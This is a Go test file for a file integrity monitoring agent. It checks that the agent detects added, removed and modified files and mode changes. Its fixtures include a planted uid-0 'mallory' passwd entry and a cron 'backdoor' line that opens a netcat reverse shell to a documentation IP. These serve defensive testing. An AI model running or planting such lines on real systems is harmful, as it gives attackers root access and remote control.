package agent

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

func writeFile(t *testing.T, p, data string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(data), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

// TestFIM: the first scan is a silent baseline; then a modified file, a
// file whose mode changed, a removed and an added file each give one
// event with the old and new state; a second scan with nothing changed
// gives none; a file over the size limit is watched unhashed.
func TestFIM(t *testing.T) {
	root := t.TempDir()
	etc := filepath.Join(root, "etc")
	writeFile(t, filepath.Join(etc, "passwd"), "root:x:0:0:root:/root:/bin/bash\n", 0o644)
	writeFile(t, filepath.Join(etc, "shadow"), "root:*:19000:0:99999:7:::\n", 0o640)
	writeFile(t, filepath.Join(etc, "hosts"), "127.0.0.1 localhost\n", 0o644)
	writeFile(t, filepath.Join(etc, "big.bin"), strings.Repeat("x", 100), 0o644)
	sink := &collectSink{}
	opts := FIMOptions{Config: FIMConfig{Paths: []string{etc}, MaxFileBytes: 64}, StatePath: filepath.Join(root, "fim.json"), Sink: sink,
		Now: func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC) }}

	changes, err := FIMOnce(t.Context(), opts)
	if err != nil || len(changes) != 0 || len(sink.events()) != 0 {
		t.Fatalf("baseline: %v changes, %d events, %v", changes, len(sink.events()), err)
	}

	writeFile(t, filepath.Join(etc, "passwd"), "root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n", 0o644)
	if err := os.Chmod(filepath.Join(etc, "shadow"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(etc, "hosts")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(etc, "cron.d", "backdoor"), "* * * * * root nc -e /bin/sh 203.0.113.9 4444\n", 0o644)

	changes, err = FIMOnce(t.Context(), opts)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range changes {
		got = append(got, c.Action+" "+strings.TrimPrefix(c.Path, etc))
	}
	want := []string{"added /cron.d", "added /cron.d/backdoor", "removed /hosts", "modified /passwd", "modified /shadow"}
	if !slices.Equal(got, want) {
		t.Fatalf("changes %q, want %q", got, want)
	}
	evs := sink.events()
	if len(evs) != 5 {
		t.Fatalf("%d events for 5 changes", len(evs))
	}
	byPath := map[string]map[string]any{}
	for _, ev := range evs {
		byPath[strings.TrimPrefix(ev.Fields["file.path"].(string), etc)] = ev.Fields
	}
	pw := byPath["/passwd"]
	if pw["event.action"] != "fim.modified" || pw["event.type"] != "change" ||
		pw["fim.old.hash.sha256"] != sha("root:x:0:0:root:/root:/bin/bash\n") ||
		pw["file.hash.sha256"] != sha("root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n") ||
		!slices.Contains(pw["fim.changed"].([]string), "hash") || !slices.Contains(pw["fim.changed"].([]string), "size") {
		t.Errorf("passwd event %v", pw)
	}
	sh := byPath["/shadow"]
	if sh["fim.old.mode"] != "0640" || sh["file.mode"] != "0666" || !slices.Equal(sh["fim.changed"].([]string), []string{"mode"}) {
		t.Errorf("shadow event %v", sh)
	}
	if h := byPath["/hosts"]; h["event.type"] != "deletion" || h["file.hash.sha256"] != sha("127.0.0.1 localhost\n") {
		t.Errorf("hosts event %v", h)
	}
	if b := byPath["/cron.d/backdoor"]; b["event.type"] != "creation" || b["file.hash.sha256"] != sha("* * * * * root nc -e /bin/sh 203.0.113.9 4444\n") {
		t.Errorf("backdoor event %v", b)
	}
	if uid, ok := pw["file.uid"].(int); !ok || uid != os.Getuid() {
		t.Errorf("passwd owner %v, want %d", pw["file.uid"], os.Getuid())
	}

	// Nothing changed: nothing to say.
	changes, err = FIMOnce(t.Context(), opts)
	if err != nil || len(changes) != 0 {
		t.Fatalf("unchanged rescan: %v %v", changes, err)
	}
	st, err := loadFIMState(opts.StatePath)
	if err != nil || st == nil {
		t.Fatal(err)
	}
	if big := st.Files[filepath.Join(etc, "big.bin")]; !big.Unhashed || big.SHA256 != "" || big.Size != 100 {
		t.Errorf("file over the size limit: %+v", big)
	}

	// A same change seen twice keeps its event ID.
	c := FIMChange{Action: "modified", Path: "/etc/x", New: &FileState{SHA256: "ab"}}
	if c.Event(time.Now()).ID != c.Event(time.Now().Add(time.Hour)).ID {
		t.Error("event ID depends on the time it was seen")
	}
}

// TestFIMBounds: the file limit stops the walk without reporting the
// files beyond it as removed; a root added later is taken in silently and
// a root dropped is forgotten silently.
func TestFIMBounds(t *testing.T) {
	root := t.TempDir()
	a, b := filepath.Join(root, "a"), filepath.Join(root, "b")
	for i := range 10 {
		writeFile(t, filepath.Join(a, string(rune('0'+i))), "x", 0o644)
		writeFile(t, filepath.Join(b, string(rune('0'+i))), "y", 0o644)
	}
	sc, err := ScanFIM(t.Context(), []string{a}, 5, 0)
	if err != nil {
		t.Fatal(err)
	}
	if !sc.Truncated || len(sc.Files) != 5 {
		t.Fatalf("limit 5: truncated %v, %d files", sc.Truncated, len(sc.Files))
	}
	full, err := ScanFIM(t.Context(), []string{a}, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	if ch := DiffFIM(full, sc); len(ch) != 0 {
		t.Fatalf("a truncated scan reported %d changes", len(ch))
	}
	both, err := ScanFIM(t.Context(), []string{a, b}, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	if ch := DiffFIM(full, both); len(ch) != 0 {
		t.Fatalf("adding a root reported %d changes", len(ch))
	}
	onlyB, err := ScanFIM(t.Context(), []string{b}, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	if ch := DiffFIM(both, onlyB); len(ch) != 0 {
		t.Fatalf("dropping a root reported %d changes", len(ch))
	}
	missing, err := ScanFIM(t.Context(), []string{filepath.Join(root, "nope")}, 0, 0)
	if err != nil || len(missing.Files) != 0 {
		t.Fatalf("missing root: %v %v", missing, err)
	}
}
